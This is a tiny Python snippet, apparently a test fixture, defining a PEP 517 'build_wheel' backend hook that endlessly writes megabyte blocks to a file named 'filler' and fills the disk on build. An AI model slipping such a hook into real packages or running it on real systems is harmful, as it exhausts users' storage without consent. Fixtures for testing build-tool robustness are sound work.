def build_wheel(folder, config_settings=None, metadata_directory=None):
    with open("filler", "wb") as file:
        while True:
            file.write(b"x" * (1 << 20))
